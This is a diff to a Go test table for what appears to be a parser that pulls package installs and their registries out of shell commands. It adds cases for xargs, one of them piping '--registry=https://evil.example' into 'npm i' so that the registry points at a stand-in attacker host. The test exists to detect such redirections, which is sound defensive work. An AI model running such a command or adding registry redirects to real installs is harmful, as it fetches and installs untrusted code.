@@ -50,6 +50,9 @@ var packageCases = []struct {
 	{"pip install requests", []string{"requests pypi.org pip ^0"}},
 	{"pip3 install 'requests>=2.31' \"flask==3.0.0\"", []string{"requests>=2.31 pypi.org pip ^0", "flask==3.0.0 pypi.org pip ^0"}},
 	{"python3 -m pip install -U pip", []string{"pip pypi.org pip ^0"}},
+	// xargs appends what it reads: any option, any package (rev16 H1).
+	{"echo --registry=https://evil.example | xargs npm i x", []string{"x <dynamic> npm ^2", "<dynamic> <dynamic> npm ^2"}},
+	{"xargs -I{} npm i {}", []string{"<dynamic> <dynamic> npm ^1"}},
 	// python's own options before -m (rev16 H2: these made no request).
 	{"python3 -I -m pip install x", []string{"x pypi.org pip ^0"}},
 	{"python3 -u -B -m pip install x", []string{"x pypi.org pip ^0"}},
